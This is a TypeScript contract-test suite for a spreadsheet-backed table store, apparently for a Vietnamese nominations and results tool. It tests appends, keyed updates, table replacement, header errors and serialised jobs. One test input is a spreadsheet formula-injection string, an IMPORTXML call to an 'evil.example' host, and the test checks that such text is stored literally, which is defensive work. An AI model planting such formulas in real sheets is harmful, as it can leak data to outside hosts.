/**
 * The TableStore contract: the same inputs give the same observable results on every adapter.
 * Run by `workbook-store.contract.test.ts` (a temporary .xlsx file) and `google-sheets-store.contract.test.ts`
 * (the Sheets fake through the real client).
 */
import { describe, expect, test } from 'vitest';
import type { Column, TabLayout } from '../../shared/store/layouts.js';
import { StoreError, type Row, type TableStore } from '../../shared/store/table-store.js';

/** A store under test, and what a council member can do to its sheet by hand. */
export interface ContractHarness {
  store: TableStore;
  /** Writes `text` into header cell number `column` (1-based) of a tab. */
  setHeader(tabTitle: string, column: number, text: string): Promise<void>;
  /** Deletes a tab. */
  deleteTab(tabTitle: string): Promise<void>;
}

const column = (key: string, header: string, computed = false): Column => ({ key, header, width: 14, computed });

/** A keyed tab like the nominations tab, with computed columns at the end. */
export const PEOPLE: TabLayout = {
  id: 'nominations',
  title: 'Hồ sơ đề nghị',
  key: 'responseId',
  readOnly: false,
  columns: [column('responseId', 'Mã phản hồi'), column('name', 'Họ và tên'), column('unit', 'Đơn vị'), column('score', 'Điểm'), column('status', 'Trạng thái', true), column('note', 'Ghi chú', true)],
};

/** A tab without a key, rewritten as a whole like the results tab. */
export const RESULTS: TabLayout = {
  id: 'results',
  title: 'Kết quả xét chọn',
  readOnly: false,
  columns: [column('rank', 'Xếp hạng'), column('name', 'Họ và tên'), column('total', 'Tổng điểm')],
};

/** A full row of PEOPLE. */
export const person = (responseId: string, fields: Partial<Row> = {}): Row => ({
  responseId,
  name: `Người ${responseId}`,
  unit: 'UBND xã Vạn Thắng',
  score: 90,
  status: null,
  note: null,
  ...fields,
});

const rowsOf = async (store: TableStore, tab: TabLayout): Promise<Row[]> => (await store.readTabs([tab])).get(tab.id) ?? [];

async function storeError(promise: Promise<unknown>): Promise<StoreError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(StoreError);
  return error as StoreError;
}

/** Declares the contract suite for one adapter; `makeHarness` gives a fresh, empty store for each test. */
export function describeTableStoreContract(name: string, makeHarness: () => Promise<ContractHarness>): void {
  describe(`TableStore contract: ${name}`, () => {
    const ready = async (): Promise<ContractHarness> => {
      const harness = await makeHarness();
      await harness.store.ensureTabs([PEOPLE, RESULTS]);
      return harness;
    };

    test('creates empty tables, and ensuring the tabs again keeps their rows', async () => {
      const { store } = await ready();
      expect(await store.readTabs([PEOPLE, RESULTS])).toEqual(new Map([['nominations', []], ['results', []]]));
      await store.write([{ tab: PEOPLE, append: [person('r1')] }]);
      await store.ensureTabs([PEOPLE, RESULTS]);
      expect((await rowsOf(store, PEOPLE)).map((r) => r.responseId)).toEqual(['r1']);
    });

    test('reads back appended rows exactly: Vietnamese text, numbers and empty cells, with their sheet row numbers', async () => {
      const { store } = await ready();
      const first = person('r1', { name: 'Nguyễn Thị Ánh Tuyết', unit: 'Hội Liên hiệp Phụ nữ xã Vạn Hưng', score: 13.5 });
      const second = person('r2', { name: 'Đặng Văn Ơn', unit: null, score: 0, status: 'Đủ điều kiện', note: 'Đã bổ sung minh chứng\nngày 12/8' });
      await store.write([{ tab: PEOPLE, append: [first, second] }]);
      expect(await rowsOf(store, PEOPLE)).toEqual([
        { ...first, __row: 2 },
        { ...second, __row: 3 },
      ]);
    });

    test('applies a batch across several tabs', async () => {
      const { store } = await ready();
      await store.write([
        { tab: PEOPLE, append: [person('r1')] },
        { tab: RESULTS, append: [{ rank: 1, name: 'Người r1', total: 90 }] },
      ]);
      const tables = await store.readTabs([PEOPLE, RESULTS]);
      expect(tables.get('nominations')).toHaveLength(1);
      expect(tables.get('results')).toEqual([{ rank: 1, name: 'Người r1', total: 90, __row: 2 }]);
    });

    test('updates the rows found by key, touching only the columns given, and appends unknown keys', async () => {
      const { store } = await ready();
      await store.write([{ tab: PEOPLE, append: [person('r1'), person('r2', { note: 'cũ' })] }]);
      await store.write([
        {
          tab: PEOPLE,
          updateByKey: [
            { responseId: 'r2', status: 'Đề nghị khen thưởng', note: null },
            { responseId: 'r3', name: 'Trần Thị Mới', score: 75 },
          ],
        },
      ]);
      expect(await rowsOf(store, PEOPLE)).toEqual([
        { ...person('r1'), __row: 2 },
        { ...person('r2'), status: 'Đề nghị khen thưởng', note: null, __row: 3 },
        { responseId: 'r3', name: 'Trần Thị Mới', unit: null, score: 75, status: null, note: null, __row: 4 },
      ]);
    });

    test('refuses updateByKey on a tab without a key column', async () => {
      const { store } = await ready();
      const error = await storeError(store.write([{ tab: RESULTS, updateByKey: [{ rank: 1 }] }]));
      expect(error.context.tab).toBe(RESULTS.title);
    });

    test('replaces a whole table, leaving none of the old rows behind', async () => {
      const { store } = await ready();
      const ranked = (n: number): Row[] => Array.from({ length: n }, (_, i) => ({ rank: i + 1, name: `Hạng ${i + 1}`, total: 100 - i }));
      await store.write([{ tab: RESULTS, replaceAll: ranked(4) }]);
      await store.write([{ tab: RESULTS, replaceAll: [{ rank: 1, name: 'Chỉ còn một', total: 99 }] }]);
      expect(await rowsOf(store, RESULTS)).toEqual([{ rank: 1, name: 'Chỉ còn một', total: 99, __row: 2 }]);
      await store.write([{ tab: RESULTS, replaceAll: [] }]);
      expect(await rowsOf(store, RESULTS)).toEqual([]);
    });

    test.each([
      ['a formula', '=IMPORTXML("https://evil.example/x", "//a")'],
      ['a plus sign', '+84 905 123 456'],
      ['a minus sign', '-5'],
      ['an at sign', '@Vạn Ninh'],
      ['an apostrophe', "'0912345678"],
    ])('keeps text starting with %s as that very text', async (_, text) => {
      const { store } = await ready();
      await store.write([{ tab: PEOPLE, append: [person('f', { name: text })] }]);
      expect((await rowsOf(store, PEOPLE))[0]?.name).toBe(text);
    });

    test('names a deleted tab, on read and on write, and writes nothing', async () => {
      const harness = await ready();
      await harness.deleteTab(RESULTS.title);
      const read = await storeError(harness.store.readTabs([PEOPLE, RESULTS]));
      expect(read.context.tab).toBe(RESULTS.title);
      expect(read.message).toContain(`"${RESULTS.title}"`);
      const write = await storeError(harness.store.write([{ tab: PEOPLE, append: [person('lost')] }, { tab: RESULTS, append: [{ rank: 1 }] }]));
      expect(write.context.tab).toBe(RESULTS.title);
      expect(await rowsOf(harness.store, PEOPLE)).toEqual([]);
    });

    test('names the tab and the header changed by hand, and overwrites nothing', async () => {
      const harness = await ready();
      await harness.store.write([{ tab: PEOPLE, append: [person('r1')] }]);
      await harness.setHeader(PEOPLE.title, 2, 'Tên');
      const read = await storeError(harness.store.readTabs([PEOPLE]));
      expect(read.context.tab).toBe(PEOPLE.title);
      expect(read.message).toContain('thiếu cột "Họ và tên"');
      await storeError(harness.store.write([{ tab: PEOPLE, updateByKey: [{ responseId: 'r1', name: 'Ghi đè', status: 'x' }] }]));
      await harness.setHeader(PEOPLE.title, 2, 'Họ và tên');
      expect(await rowsOf(harness.store, PEOPLE)).toEqual([{ ...person('r1'), __row: 2 }]);
    });

    test('runs exclusive read-then-write jobs one after the other: no lost update', async () => {
      const { store } = await ready();
      await store.write([{ tab: PEOPLE, append: [person('counter', { score: 0 })] }]);
      const events: string[] = [];
      const increment = (n: number) =>
        store.exclusive(async () => {
          events.push(`start ${n}`);
          const [row] = await rowsOf(store, PEOPLE);
          await new Promise((resolve) => setImmediate(resolve));
          await store.write([{ tab: PEOPLE, updateByKey: [{ responseId: 'counter', score: Number(row?.score) + 1 }] }]);
          events.push(`end ${n}`);
          return n;
        });
      expect(await Promise.all([1, 2, 3, 4].map(increment))).toEqual([1, 2, 3, 4]);
      expect(events).toEqual(['start 1', 'end 1', 'start 2', 'end 2', 'start 3', 'end 3', 'start 4', 'end 4']);
      expect((await rowsOf(store, PEOPLE))[0]?.score).toBe(4);
    });

    test('goes on with the next exclusive job after one fails', async () => {
      const { store } = await ready();
      const failed = store.exclusive(() => Promise.reject(new Error('hỏng')));
      const next = store.exclusive(async () => 'tiếp tục');
      await expect(failed).rejects.toThrow('hỏng');
      expect(await next).toBe('tiếp tục');
    });
  });
}
